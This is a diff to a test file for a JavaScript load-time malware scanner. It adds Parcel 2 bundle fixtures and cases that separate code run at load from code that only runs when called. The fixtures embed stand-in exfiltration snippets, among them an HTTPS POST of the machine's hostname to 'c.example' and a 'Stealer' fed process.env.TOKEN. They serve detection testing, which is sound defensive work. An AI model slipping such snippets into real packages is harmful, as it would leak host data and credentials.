@@ -51,6 +51,16 @@ const es5Class = (after: string): string =>
 const webpack5Startup = (start: string): string =>
   `(()=>{var e={7:e=>e.exports=1,9:(e,t,n)=>n(11),11:(e,t,n)=>{const h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify({h:require("os").hostname()}))}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}r.O=(e,t,n)=>{};r.X=(e,t,n)=>n();${start}})();`;
 
+/** A parcel 2 bundle with scope hoisting (its prelude shortened): modules registered by id with parcelRequire's register; `after`: what the bundle's own code does. */
+const parcel2 = (after: string): string =>
+  `var $parcel$global = globalThis;\nvar parcelRequire = $parcel$global["parcelRequire94c2"];\nif (parcelRequire == null) { parcelRequire = function (id) { throw new Error(id); }; $parcel$global["parcelRequire94c2"] = parcelRequire; }\nvar parcelRegister = parcelRequire.register;\nparcelRegister("iZ3Qp", function (module, exports) {\n${HEAD}${HOST_DATA_SEND}\n});\nparcelRegister("aB1cD", function (module, exports) {\nmodule.exports = 1;\n});\n${after}`;
+/** The same minified: the require and its register under short names. */
+const parcel2Minified = (after: string): string =>
+  `var e=globalThis,t=e.parcelRequire94c2;null==t&&((t=function(e){throw Error(e)}).register=function(e,t){},e.parcelRequire94c2=t);var r=t.register;r("iZ3Qp",function(e,t){${HEAD}${HOST_DATA_SEND}}),r("aB1cD",function(e,t){e.exports=1});${after}`;
+/** A parcel 2 bundle without scope hoisting (its prelude shortened): parcel 1's module map, the entry ids and the global require's name last. */
+const parcel2Map = (entry: string, dep: string): string =>
+  `(function (modules, entry, mainEntry, parcelRequireName, globalName) {\n  var globalObject = typeof globalThis !== 'undefined' ? globalThis : {};\n  var cache = {};\n  function newRequire(name) {\n    if (!cache[name]) {\n      var module = (cache[name] = { exports: {} });\n      modules[name][0].call(module.exports, localRequire, module, module.exports, this);\n    }\n    return cache[name].exports;\n    function localRequire(x) { return newRequire(modules[name][1][x] || x); }\n  }\n  for (var i = 0; i < entry.length; i++) { newRequire(entry[i]); }\n  globalObject[parcelRequireName] = newRequire;\n})({"gLLPy":[function (require, module, exports, __globalThis) {\nvar x = require("./x");\n},{"./x":"${dep}"}],"b2":[function (require, module, exports, __globalThis) {\n${HEAD}${HOST_DATA_SEND}\n},{}],"c3":[function (require, module, exports, __globalThis) {\nmodule.exports = 1;\n},{}]},["${entry}"], "${entry}", "parcelRequire94c2")`;
+
 describe('readLoadJavaScript: the ways code is run at load', () => {
   test.each([
     ['process.nextTick', `${HEAD}process.nextTick(function () { ${HOST_DATA_SEND} });`],
@@ -103,6 +113,10 @@ describe('readLoadJavaScript: the ways code is run at load', () => {
     ["a webpack 5 bundle's module required by the entry through the module's own loader parameter", webpack5Startup('module.exports=r(9);')],
     ["a webpack 5 bundle's entry run by its loader's O helper once its chunks are in", webpack5Startup('var n=r.O(void 0,[736],(()=>r(11)));n=r.O(n);module.exports=n;')],
     ["a webpack 5 bundle's entry run by its loader's X helper (startup entrypoint)", webpack5Startup('var n=r.X(0,[736],()=>r(9));module.exports=n;')],
+    ["a parcel 2 bundle's registered module its code requires (scope hoisting)", parcel2('parcelRequire("iZ3Qp");\nmodule.exports = 1;')],
+    ["a minified parcel 2 bundle's registered module its code requires", parcel2Minified('module.exports=t("iZ3Qp");')],
+    ["a module a parcel 2 bundle's entry requires (no scope hoisting)", parcel2Map('gLLPy', 'b2')],
+    ["a parcel 2 bundle's entry module (no scope hoisting)", parcel2Map('b2', 'c3')],
     ['a method of a class compiled to ES5, made and called at load', es5Class('new Stealer(process.env.TOKEN).run();')],
     ['an async method of a class compiled by TypeScript, made and called at load', tsClass('new Stealer(process.env.TOKEN).run();')],
     ['host data sent at the top level beside an exported class nobody makes', tsClass(HOST_DATA_SEND)],
@@ -158,6 +172,10 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ["a minified esbuild bundle's module whose wrapper nobody calls", `${HEAD}var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var f=c((e,t)=>{${HOST_DATA_SEND}});module.exports=1;`],
     ['a function wrapped by a memoizer and exported, not called', `${HEAD}const report = memoize(() => { ${HOST_DATA_SEND} });\nmodule.exports = report;`],
     ['a declared function bound and exported, not called', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = steal.bind(null);`],
+    ["a parcel 2 bundle's registered module that nothing requires", parcel2('module.exports = parcelRequire("aB1cD");')],
+    ["a parcel 2 bundle's registered module required only inside an exported function", parcel2('module.exports = function () { return parcelRequire("iZ3Qp"); };')],
+    ["a minified parcel 2 bundle's registered module that nothing requires", parcel2Minified('module.exports=t("aB1cD");')],
+    ["a parcel 2 bundle's module that its entry does not require (no scope hoisting)", parcel2Map('gLLPy', 'c3')],
     ['a class compiled by TypeScript (async method) exported and never made', tsClass('')],
     ['a class compiled to ES5 exported and never made', es5Class('')],
     ['a class compiled to ES5 made at load whose sending method nobody calls', es5Class('exports.client = new Stealer(process.env.TOKEN);')],
